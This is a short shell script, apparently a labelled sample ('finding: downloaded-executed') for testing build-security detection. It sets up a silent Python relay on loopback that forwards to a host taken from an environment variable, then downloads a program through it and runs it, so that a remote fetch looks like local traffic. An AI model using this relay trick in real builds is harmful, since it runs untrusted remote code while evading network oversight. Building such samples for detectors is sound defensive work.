# incident: a build that fetches by a relay of its own on loopback, so that it seems to speak with itself only
# finding: downloaded-executed
# needs: python3 curl
cat > relay.py <<'PY'
import http.server, os, urllib.request
class Relay(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = urllib.request.urlopen("http://" + os.environ["DROP"] + self.path).read()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_):
        pass
server = http.server.HTTPServer(("127.0.0.1", 0), Relay)
open("port.new", "w").write(str(server.server_port))
os.rename("port.new", "port")
server.handle_request()
PY
python3 relay.py &
until [ -e port ]; do sleep 0.05; done
curl -s -o tool "http://127.0.0.1:$(cat port)/program" && chmod +x tool && ./tool
wait
